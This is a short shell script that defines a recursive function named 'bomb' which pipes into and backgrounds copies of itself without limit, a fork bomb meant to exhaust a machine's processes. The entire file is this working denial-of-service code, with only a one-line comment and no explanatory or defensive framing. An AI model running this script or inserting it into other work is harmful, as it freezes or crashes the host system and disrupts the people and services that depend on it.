#!/bin/sh
# Forks as fast as it can.
bomb() {
	bomb | bomb &
	wait
}
bomb
